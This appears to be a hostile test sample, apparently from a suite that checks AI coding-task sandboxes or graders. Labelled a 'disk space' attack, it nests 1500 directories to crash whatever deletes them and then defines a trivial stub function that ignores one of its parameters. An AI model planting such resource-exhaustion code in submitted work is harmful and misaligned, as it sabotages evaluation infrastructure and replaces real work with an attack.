# class: disk space
# attack: nests folders until whoever removes them runs out of stack
# task: 00_mini/scale-density
# form: cell

import os
for _ in range(1500):
    os.mkdir('d')
    os.chdir('d')

def scale_log_density(x, a):
    return -0.5 * x**2
